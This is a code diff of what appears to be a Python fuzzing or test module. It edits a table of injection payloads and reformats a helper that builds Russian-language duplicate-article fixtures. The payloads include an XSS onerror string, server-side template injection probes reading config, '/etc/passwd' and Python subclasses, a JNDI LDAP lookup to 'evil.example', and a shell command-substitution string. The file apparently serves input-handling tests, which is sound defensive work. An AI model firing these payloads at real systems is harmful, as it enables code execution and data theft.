@@ -87,10 +87,10 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
     ),
     "templates": (
-        "{{ 7*191 }}", "{% raw %}{{ config }}{% endraw %}", "{% include '/etc/passwd' %}", "{# нет #}",
-        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*191}", "<% 7*191 %>", "<%= 7*191 %>", "#{7*191}",
-        "%{7*191}", "[[7*191]]", "{{constructor.constructor('window.pwned=1')()}}", "${jndi:ldap://evil.example/a}",
-        "## python: 7*191", "<%! import os %>",
+        "{{ 1237*1747 }}", "{% raw %}{{ config }}{% endraw %}", "{% include '/etc/passwd' %}", "{# нет #}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${1237*1747}", "<% 1237*1747 %>", "<%= 1237*1747 %>", "#{1237*1747}",
+        "%{1237*1747}", "[[1237*1747]]", "{{constructor.constructor('window.pwned=1')()}}", "${jndi:ldap://evil.example/a}",
+        "## python: 1237*1747", "<%! import os %>",
     ),
     "formats": (
         "%s%s%s%n%x", "%(query)s %(number)d %(", "100% %", "{0} {query} {self.__class__}", "%%%", "$HOME `id` $(id)",
@@ -207,7 +207,10 @@ def _reprints(record: dict[str, str]) -> str:
     """Two articles that tell the same story, so that there is something to compare."""
     words = record["id"].replace("\n", " ")[:300]
     told = f"{WORD} {record['id'][-3:]}х переплыл реку у старой мельницы и вышел на берег, где его ждали дети из посёлка {words} "
-    pair = [{"id": f"{name}{record['id'][-40:]}", "title": f"Река {name} {words}", "text": told + name} for name in ("первый", "второй")]
+    pair = [
+        {"id": f"{name}{record['id'][-40:]}", "title": f"Река {name} {words}", "text": told + name}
+        for name in ("первый", "второй")
+    ]
     return "".join(json.dumps(one) + "\n" for one in pair)
 
 
